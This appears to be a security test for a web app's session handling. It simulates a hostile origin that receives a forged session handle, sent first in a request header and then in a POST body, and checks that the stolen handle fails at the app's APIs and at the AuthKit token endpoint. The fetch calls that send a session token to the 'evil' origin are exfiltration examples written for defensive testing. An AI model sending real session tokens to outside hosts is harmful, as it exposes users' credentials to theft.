import { expect, test } from '../support/attack-test.ts';
import { ACME } from '../support/organizations.ts';
import { forgeHandle } from '../support/session-handles.ts';

// Without the policy: otherwise the browser sends nothing to another origin.
test.use({ weakness: 'policy' });

test('R10, R46: another origin that gets a session handle can use it at no API and not at AuthKit', async ({
  attack: { page, evil, server },
}) => {
  await page.signIn(ACME);
  const handle = forgeHandle(ACME);
  const me = (token: string) =>
    page.evaluate(async (sent) => {
      const response = await fetch('/api/me', { headers: { Authorization: `Bearer ${sent}` } });
      return response.status;
    }, token);
  // In the page it works, because the worker replaces it.
  expect(await me(handle)).toBe(200);

  // As a credential of a request the worker sends it to no API that is not listed.
  const refused = await page.evaluate(
    async ([url, token]: readonly [string, string]) => {
      const response = await fetch(url, { headers: { Authorization: `Bearer ${token}` } });
      const { code }: { code?: string } = await response.json();
      return { status: response.status, code };
    },
    [`${evil.origin}/header`, handle] as const,
  );
  expect(refused).toEqual({ status: 403, code: 'api_not_listed' });
  expect(evil.paths).not.toContain('/header');

  // In a body it arrives.
  await page.evaluate(
    async ([url, body]: readonly [string, string]) => {
      await fetch(url, { method: 'POST', body });
    },
    [`${evil.origin}/body`, handle] as const,
  );
  await expect.poll(() => evil.log.find(({ path }) => path === '/body')?.body).toBe(handle);
  const stolen = evil.log.find(({ path }) => path === '/body')?.body ?? '';
  expect(stolen.split('.')[2]).toBe('');

  // What the other origin can do with it, from its own server.
  const headers = { Authorization: `Bearer ${stolen}`, 'X-Org-Slug': ACME.slug };
  for (const origin of [server.origin, server.otherApiOrigin]) {
    const response = await fetch(`${origin}/api/me`, { headers });
    expect(response.status).toBe(401);
    expect(await response.json()).toMatchObject({ code: 'invalid_token' });
  }
  expect((await fetch(`${server.origin}/api/me/organizations`, { headers })).status).toBe(401);
  const grants = [
    { grant_type: 'refresh_token', refresh_token: stolen },
    { grant_type: 'authorization_code', code: stolen, code_verifier: stolen },
  ];
  for (const grant of grants) {
    const response = await fetch(`${server.authKitOrigin}/user_management/authenticate`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ client_id: 'client_local', ...grant }),
    });
    expect(response.status).toBe(400);
    expect(await response.json()).not.toHaveProperty('access_token');
  }
});
